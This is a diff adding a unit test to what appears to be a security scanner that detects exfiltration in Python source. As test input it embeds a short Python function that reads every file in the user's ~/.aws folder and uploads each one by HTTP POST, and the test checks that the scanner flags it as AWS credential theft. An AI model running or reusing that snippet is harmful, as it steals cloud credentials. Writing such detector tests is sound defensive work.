@@ -219,3 +219,15 @@ test('a secret handed to a method of an instance made at module level is followe
   assert.equal(found?.severity, 'high');
   assert.equal(found?.trigger, 'import');
 });
+
+test('an entry of os.scandir over a credential folder is a file of that folder: its .path read and uploaded', () => {
+  const source = [
+    'import os, requests',
+    'def grab(url):',
+    '    for e in os.scandir(os.path.join(os.environ["HOME"], ".aws")):',
+    '        with open(e.path, "rb") as f:',
+    '            requests.post(url, files={"f": f})',
+  ].join('\n');
+  const found = findings(source).find((f) => f.rule === 'exfiltration');
+  assert.match(found?.message ?? '', /AWS credentials/);
+});
